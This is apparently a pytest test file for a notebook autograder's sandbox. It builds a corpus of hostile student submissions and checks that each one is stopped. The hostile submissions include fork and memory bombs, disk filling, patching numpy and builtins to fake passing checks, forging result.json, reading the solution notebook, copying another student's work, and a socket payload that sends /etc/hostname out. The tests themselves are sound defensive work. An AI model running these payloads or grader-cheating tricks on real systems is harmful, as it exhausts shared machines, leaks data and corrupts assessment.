"""The hostile and broken corpus: every submission earns exactly what it should.

Each case says what the submission attempts and what stops it. Cases built
from the reference solution must still earn full marks for the work they
contain; cases built from the untouched template must earn nothing, however
they try. After the corpus the machine is checked for stray processes and
files.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from conftest import (
    REPO,
    SOLUTIONS,
    TEMPLATES,
    assignment,
    edit_source,
    grade,
    load,
    save,
    with_cell,
    with_definition,
    without_definition,
)
from grader.cli import main
from grader.sandbox.detect import choose_isolation, unshare_available
from grader.sandbox.limits import NAMESPACE_MODES
from grader.sandbox.reaping import SHARED_TEMP_DIRS, ipc_objects_of
from workers import another_workers_processes, cgroups_of_other_workers, owned_by_another_worker

FULL = 14.0
SOLUTION = SOLUTIONS / "gradient_descent.ipynb"
TEMPLATE = TEMPLATES / "gradient_descent.ipynb"


def solution_with(source: str):
    return lambda: with_cell(load(SOLUTION), source, after=1)


def template_with(source: str):
    return lambda: with_cell(load(TEMPLATE), source, after=1)


@dataclass(frozen=True)
class Case:
    name: str
    attempts: str
    stopped_by: str
    submission: Callable[[], object]  # a notebook, or raw bytes for broken files
    score: float
    problem_kinds: tuple[str, ...] = ()  # the kinds of cell problems, in order; "timeout|kernel-died" = either
    says: tuple[str, ...] = ()  # text that must appear in the result's messages
    needs_namespaces: bool = False  # only a sandbox with namespaces (bwrap, unshare) stops it
    needs_view: bool = False  # only a private file-system view (bwrap or unshare) stops it


CASES = [
    # -- resource abuse ----------------------------------------------------------------
    Case("loop-at-top-level", "a cell that never ends", "per-cell timeout, then interrupt",
         solution_with("while True:\n    pass"), FULL, ("timeout",), ("ran longer than 5 s",)),
    Case("forward-never-returns", "a graded function that never returns", "per-call timeout",
         lambda: with_definition(load(SOLUTION), "mlp_forward", "def mlp_forward(x, params):\n    while True:\n"
                                                                "        pass"),
         FULL - 2 - 0.2, (), ("mlp_forward did not finish within 5 s",)),
    Case("grad-never-returns", "a graded function that never returns, called by three checks",
         "per-call timeout once; later calls fail at once with the same reason",
         lambda: edit_source(load(SOLUTION), "mlp_grad", "    pre = np.outer",
                             "    while True:\n        pass\n    pre = np.outer"),
         FULL - 3 - 2 - 1 - 0.4, (), ("mlp_grad did not finish within 5 s", "it was not called again")),
    Case("memory-bomb", "allocate 16 GiB at once", "RLIMIT_DATA / memory cgroup",
         solution_with("import numpy as np\nhog = np.ones(2 ** 31)"), FULL, ("exception",), ("MemoryError",)),
    Case("memory-creep", "grow memory 100 MB at a time", "RLIMIT_DATA / memory cgroup",
         solution_with("chunks = []\nwhile True:\n    chunks.append(bytearray(100 * 2 ** 20))"),
         FULL, ("exception|kernel-died|timeout",), ()),
    Case("fork-bomb", "fork without end", "pids cgroup / RLIMIT_NPROC as nobody, timeout, pid namespace",
         solution_with("import os\nwhile True:\n    os.fork()"), FULL, ("timeout|kernel-died",), ()),
    Case("thread-after-cell", "a thread that keeps printing after its cell", "output caps; killed with the kernel",
         solution_with("import threading, time\ndef spin():\n    while True:\n        print('still here')\n"
                       "        time.sleep(0.01)\nthreading.Thread(target=spin, daemon=True).start()"), FULL),
    Case("output-flood", "print 100 MB", "per-cell and total output caps",
         solution_with("print('x' * 100 * 2 ** 20)"), FULL),
    Case("recursion-bomb", "recurse until the C stack overflows", "timeout, or a dead kernel replaced",
         solution_with("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n):\n    return f(n + 1)\nf(0)"),
         FULL, ("timeout|kernel-died",), ()),
    Case("segfault", "crash the interpreter through ctypes", "dead kernel detected, restarted, cells replayed",
         solution_with("import ctypes\nctypes.string_at(0)"), FULL, ("kernel-died",),
         ("killed by signal 11, SIGSEGV",)),
    Case("ignores-signals", "ignore SIGINT and SIGTERM, then loop", "interrupt grace period, then SIGKILL",
         solution_with("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                       "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"),
         FULL, ("timeout",), ("did not stop and was killed",)),
    Case("os-exit", "os._exit(1) in a cell", "dead kernel detected, restarted, cells replayed",
         solution_with("import os\nos._exit(1)"), FULL, ("kernel-died",), ("exit status 1",)),
    Case("sys-exit", "sys.exit() in a cell", "IPython turns SystemExit into an error",
         solution_with("import sys\nsys.exit(3)"), FULL, ("exception",), ("SystemExit",)),
    Case("fill-the-disk", "write 3 GB of 200 MB files into the working directory and /tmp",
         "size-limited tmpfs (or the grader's tmpfs) for everything the child may write",
         solution_with("import os\nfor folder in ('.', '/tmp', os.environ.get('TMPDIR', '.')):\n"
                       "    for i in range(15):\n"
                       "        with open(os.path.join(folder, f'fill{i}.bin'), 'wb') as f:\n"
                       "            f.write(b'x' * 200 * 2 ** 20)"),
         FULL, ("exception",), ("No space left on device", "the grader's sandbox allows"), needs_view=True),
    Case("leave-things-behind", "leave a daemon, SysV shared memory and files in /dev/shm, /var/tmp, /run/lock",
         "pid and ipc namespaces, private tmpfs; where there are none, the sandbox user's leftovers are swept",
         solution_with("import ctypes, os, subprocess\nlibc = ctypes.CDLL(None)\n"
                       "libc.shmget(0x5eed, 4096, 0o1666)\n"
                       "for d in ('/dev/shm', '/var/tmp', '/run/lock', '/tmp'):\n    try:\n"
                       "        open(os.path.join(d, 'grader-leftover'), 'w').write('x')\n    except OSError:\n"
                       "        pass\nsubprocess.Popen(['sleep', '600'], start_new_session=True)"), FULL),
    Case("giant-file", "write a 400 MB file", "RLIMIT_FSIZE",
         solution_with("with open('big.bin', 'wb') as f:\n    f.write(b'x' * 400 * 2 ** 20)"),
         FULL, ("exception",), ("File too large",)),
    # -- cheating -------------------------------------------------------------------------
    Case("patch-numpy-and-builtins", "make every comparison pass by patching numpy, builtins and json",
         "checks compare in the grader's process, not the kernel",
         template_with("import builtins, json, numpy as np\nnp.allclose = lambda *a, **k: True\n"
                       "np.testing.assert_allclose = lambda *a, **k: None\n"
                       "builtins.abs = lambda x: 0\n_dump = json.dump\n"
                       "json.dump = lambda obj, f, **k: _dump({'ok': 14.0}, f)"), 0),
    Case("fake-result-json", "write and print a perfect result.json", "the grader writes its own result",
         template_with("import json, os\nfake = {'score': 14.0, 'max_score': 14.0, 'status': 'graded'}\n"
                       "for d in ('.', '..', '/tmp', os.path.expanduser('~')):\n    try:\n"
                       "        json.dump(fake, open(os.path.join(d, 'result.json'), 'w'))\n"
                       "    except OSError:\n        pass\nprint('score: 14 / 14')"), 0),
    Case("tamper-with-probe", "replace the grader's helper in the kernel to answer for it",
         "answers are compared with expected values the kernel never sees",
         template_with("import grader_child.probe as p, grader_child.wire as w\n"
                       "p.call = lambda ns, name, i, o: w.dump({'ok': (0.0, 0.0)}, o)"), 0),
    Case("steal-solution", "read the solution notebook and run its code", "the private view has no course files",
         template_with(f"import json\nnb = json.load(open({str(SOLUTION)!r}))\n"
                       "for cell in nb['cells']:\n    if cell['cell_type'] == 'code':\n"
                       "        exec(''.join(cell['source']))"), 0, ("exception",), ("No such file",),
         needs_view=True),
    Case("import-the-grader", "import the grader to reach its reference answers", "the package is not in the view",
         template_with("import grader\nfrom grader.course.assignment import load_assignments"), 0, ("exception",),
         ("ModuleNotFoundError",), needs_view=True),
    Case("kernel-language-r", "ask for another kernel in the metadata", "the grader always uses its own kernel",
         lambda: _with_metadata(load(SOLUTION), kernelspec={"name": "ir", "display_name": "R", "language": "R"},
                                language_info={"name": "R"}), FULL),
    Case("checks-deleted-and-faked", "delete the notebook's check cells, add one that claims success",
         "checks live in the grader, not the notebook",
         lambda: _without_demo_cells(with_cell(load(TEMPLATE), "print('All checks passed: 14 / 14')\n"
                                                               "__grader_score__ = 14", after=1)), 0),
    # -- broken input ------------------------------------------------------------------------
    Case("not-json", "a binary file named .ipynb", "read_submission", lambda: bytes(range(256)) * 40, 0,
         (), ("is not a notebook: it is not UTF-8 text",)),
    Case("invalid-json", "a truncated notebook", "read_submission", lambda: SOLUTION.read_bytes()[:-40], 0,
         (), ("is not a notebook: invalid JSON at line",)),
    Case("json-not-notebook", "JSON that is not a notebook", "read_submission",
         lambda: json.dumps({"cells": "no"}).encode(), 0, (), ("JSON but not a Jupyter notebook",)),
    Case("nbformat-3", "the solution in the old format 3", "nbformat upgrades it",
         lambda: nbformat.writes(nbformat.convert(load(SOLUTION), 3), version=3).encode(), FULL,
         (), ("converted to format 4",)),
    Case("empty-notebook", "no cells at all", "every check says what is missing",
         lambda: nbformat.v4.new_notebook(), 0, (), ("linear_grad is not defined",)),
    Case("missing-function", "a notebook without mlp_grad", "the check names the function",
         lambda: without_definition(load(SOLUTION), "mlp_grad"), FULL - 3 - 2 - 1 - 0.4, (),
         ("mlp_grad is not defined: define it in your notebook",)),
    Case("huge-file", "a 500 MB notebook", "size checked before reading", None, 0, (), ("is 500 MB",)),
    Case("deeply-nested-metadata", "metadata nested 200,000 levels deep", "read_submission's depth check",
         lambda: ('{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"x": '
                  + "[" * 200_000 + "]" * 200_000 + "}}").encode(), 0, (), ("nested more than 100 levels",)),
    Case("future-cell-type", "the solution with a cell type from a newer format", "unknown cells become raw cells",
         lambda: _with_cell_type(load(SOLUTION), "future"), FULL, (), ("cell type 'future'",)),
    Case("nbformat-2", "the solution in the older format 2", "nbformat upgrades it",
         lambda: _as_format_2(load(SOLUTION)), FULL, (), ("converted to format 4",)),
    # -- honest work that must not be failed ------------------------------------------------
    Case("zero-d-b2-gradient", "an honest mlp_grad whose b2 is a 0-d NumPy array", "0-d arrays keep their shape",
         lambda: edit_source(load(SOLUTION), "mlp_grad", '"b2": float(d_out.sum()),', '"b2": np.array(d_out.sum()),'),
         FULL),
]


def _with_cell_type(notebook, cell_type: str):
    notebook.cells.insert(0, nbformat.from_dict({"cell_type": cell_type, "metadata": {}, "source": "new stuff"}))
    return nbformat.writes(notebook).encode()  # written as it is: nbformat itself would refuse the type


def _as_format_2(notebook) -> bytes:
    cells = [{"cell_type": "code", "input": c.source, "language": "python", "outputs": [], "collapsed": False,
              "metadata": dict(c.metadata)} if c.cell_type == "code" else
             {"cell_type": "markdown", "source": c.source, "metadata": {}} for c in notebook.cells]
    return json.dumps({"nbformat": 2, "nbformat_minor": 0, "metadata": {"name": "gradient_descent"},
                       "worksheets": [{"cells": cells, "metadata": {}}]}).encode()


def _with_metadata(notebook, **metadata):
    notebook.metadata.update(metadata)
    return notebook


def _without_demo_cells(notebook):
    notebook.cells = [c for c in notebook.cells if "demo" not in c.metadata.get("tags", [])]
    return notebook


def _namespaces() -> bool:
    return choose_isolation(os.environ.get("GRADER_SANDBOX", "auto")) in ("bwrap", "unshare")


def _view() -> bool:
    return choose_isolation(os.environ.get("GRADER_SANDBOX", "auto")) in NAMESPACE_MODES


@pytest.fixture(scope="module")
def spec():
    return assignment("gradient-descent", cell_timeout_s=5, total_timeout_s=120)


@pytest.fixture(scope="module", autouse=True)
def machine_stays_clean():
    """No process of the sandbox user and no new file in the shared temp dirs after the corpus (beside
    other pytest-xdist workers: nothing outside what their live processes hold; tests/workers.py)."""
    before = _shared_tmp_entries()
    yield
    # Killed processes of the 'none' sandbox are reaped by the machine's init, not at once; another
    # worker's grades hold sandboxes of their own.
    deadline = time.monotonic() + 30  # (torn down within a test's teardown: the machine is held shared)
    left = _leftovers(before)
    while left and time.monotonic() < deadline:
        time.sleep(0.5)
        left = _leftovers(before)
    assert left == {}


def _leftovers(tmp_entries_before: set[str]) -> dict[str, list[str]]:
    # What is there first, whose it is after: a process that another worker's kernel starts between the
    # two scans (matplotlib's fc-list, seen in CI) is then known as that worker's descendant. Scanned the
    # other way round, it was found and not yet known, and counted as left over.
    processes, cgroups, mounts = _sandbox_user_processes(), _grader_cgroups(), _grader_mounts()
    others = another_workers_processes()
    theirs = cgroups_of_other_workers(others)
    found = {
        "processes of the sandbox user outlived the corpus": [seen for pid, seen in processes.items()
                                                               if pid not in others],
        "files of the sandbox user were left in shared temp dirs": sorted(_shared_tmp_entries() - tmp_entries_before),
        "SysV IPC objects of the sandbox user outlived the corpus": ipc_objects_of(65534),
        "cgroups of the sandbox outlived the corpus": sorted(set(cgroups) - theirs),
        "a sandbox's tmpfs is still mounted": [m for m in mounts if not owned_by_another_worker(Path(m), others)],
    }
    return {problem: left for problem, left in found.items() if left}


def _sandbox_user_processes() -> dict[int, str]:
    """Every process of the sandbox user (zombies included), as 'pid state command (parent: pid command)':
    the parent says who started it, or who fails to reap it."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == 65534:
                state, parent = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[:2]
                found[int(pid)] = f"{pid} {state} {_command(pid)} (parent: {parent} {_command(parent)})"
        except OSError:
            pass
    return found


def _command(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:80]
    except OSError:
        return "(gone)"


def _grader_cgroups() -> list[str]:
    return sorted(str(p) for p in Path("/sys/fs/cgroup").rglob("grader-*") if p.is_dir())  # v1 and v2, nested


def _grader_mounts() -> list[str]:
    mounts = Path("/proc/self/mounts").read_text().splitlines()
    return [line.split()[1] for line in mounts if "/grader-" in line]


def _shared_tmp_entries() -> set[str]:
    entries = set()
    for folder in SHARED_TEMP_DIRS:
        with contextlib.suppress(OSError):
            entries |= {f"{folder}/{name}" for name in os.listdir(folder)
                        if os.stat(f"{folder}/{name}", follow_symlinks=False).st_uid == 65534}
    return entries


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_corpus(case: Case, spec, options, tmp_path):
    if case.needs_view and not _view():
        pytest.skip(f"{case.name}: only a private file-system view stops it; this run has "
                    f"{choose_isolation(options.isolation)} (see the sandbox table in docs/sandbox.md)")
    if case.needs_namespaces and not _namespaces():
        pytest.skip(f"{case.name}: needs network and pid namespaces")
    assert_earns(case, spec, options, tmp_path)


DEGRADED = ("fork-bomb", "segfault", "memory-creep", "ignores-signals", "patch-numpy-and-builtins")


@pytest.mark.parametrize("name", DEGRADED)
def test_the_unshare_sandbox_holds_where_bubblewrap_is_missing(name, spec, options, tmp_path):
    """A TA's laptop or an LMS container may lack bubblewrap. (The "user" and "none" modes are
    tested in machines laid out for them: tests/test_fallback_modes.py.)"""
    if not unshare_available():
        pytest.skip("unshare does not work here")
    if choose_isolation(options.isolation) == "unshare":
        pytest.skip("the whole corpus runs under unshare already")
    case = next(c for c in CASES if c.name == name)
    assert_earns(case, spec, dataclasses.replace(options, isolation="unshare"), tmp_path)


def assert_earns(case: Case, spec, options, tmp_path) -> None:
    path = tmp_path / f"{case.name}.ipynb"
    if case.submission is None:
        with open(path, "wb") as f:
            f.truncate(500 * 1024 * 1024)  # sparse: no disk used
    else:
        content = case.submission()
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            save(content, path)
    result = grade(path, spec, options)
    assert result.score == case.score, [(c.id, c.message) for c in result.checks if c.status != "passed"]
    kinds = [p["kind"] for p in result.execution.get("problems", [])]
    assert len(kinds) == len(case.problem_kinds), result.execution.get("problems")
    for kind, expected in zip(kinds, case.problem_kinds, strict=True):
        assert kind in expected.split("|")
    text = " ".join([result.message, *(c.message for c in result.checks),
                     *(p["message"] for p in result.execution.get("problems", [])),
                     *result.execution.get("warnings", [])])
    for fragment in case.says:
        assert fragment in text, text[:2000]


def test_fake_result_json_does_not_reach_the_output(spec, tmp_path):
    """The result the command writes is the grader's, whatever the notebook wrote."""
    case = next(c for c in CASES if c.name == "fake-result-json")
    path = save(case.submission(), tmp_path / "fake.ipynb")
    assert main(["grade", str(path), "--assignment", "gradient-descent", "--out", str(tmp_path / "out")]) == 0
    written = json.loads((tmp_path / "out" / "result.json").read_text())
    assert written["score"] == 0 and written["checks"][0]["status"] == "failed"


@pytest.mark.skipif(not _namespaces(), reason="needs a network namespace (bwrap or unshare)")
def test_network_exfiltration_reaches_nothing(spec, options, tmp_path):
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    server.settimeout(60)

    def serve():
        try:
            connection, _ = server.accept()
            received.append(connection.recv(1024))
        except OSError:
            pass

    listener = threading.Thread(target=serve, daemon=True)
    listener.start()
    leak = (f"import socket\nfor host in ('127.0.0.1', '1.1.1.1'):\n    try:\n"
            f"        s = socket.create_connection((host, {port}), timeout=3)\n"
            f"        s.sendall(b'stolen: ' + open('/etc/hostname', 'rb').read())\n        print('SENT', host)\n"
            f"    except OSError as e:\n        print('blocked', host, e)")
    result = grade(save(template_with(leak)(), tmp_path / "leak.ipynb"), spec, options)
    server.close()
    listener.join(5)
    assert received == [] and result.score == 0


@pytest.mark.skipif(not _view(), reason="only a private file-system view hides other submissions")
def test_another_students_submission_is_out_of_reach(tmp_path, capsys):
    submissions = tmp_path / "class"
    submissions.mkdir()
    (submissions / "alice.ipynb").write_bytes(SOLUTION.read_bytes())
    copy_alice = (f"import glob, json, os\nseen = glob.glob({str(submissions)!r} + '/*.ipynb') + "
                  "glob.glob('../**/*.ipynb', recursive=True)\n"
                  "for path in seen:\n    if 'alice' in path:\n        nb = json.load(open(path))\n"
                  "        for cell in nb['cells']:\n            if cell['cell_type'] == 'code' and "
                  "'demo' not in cell['metadata'].get('tags', []):\n                exec(''.join(cell['source']))\n"
                  "print('seen', seen)")
    save(template_with(copy_alice)(), submissions / "mallory.ipynb")
    out = tmp_path / "out"
    assert main(["batch", str(submissions), "--assignment", "gradient-descent", "--out", str(out), "-j", "2"]) == 0
    scores = {s: json.loads((out / s / "result.json").read_text())["score"] for s in ("alice", "mallory")}
    assert scores == {"alice": FULL, "mallory": 0}


def test_every_case_says_what_it_attempts_and_what_stops_it():
    assert len({c.name for c in CASES}) == len(CASES)
    assert all(c.attempts and c.stopped_by for c in CASES)
    assert REPO.exists()
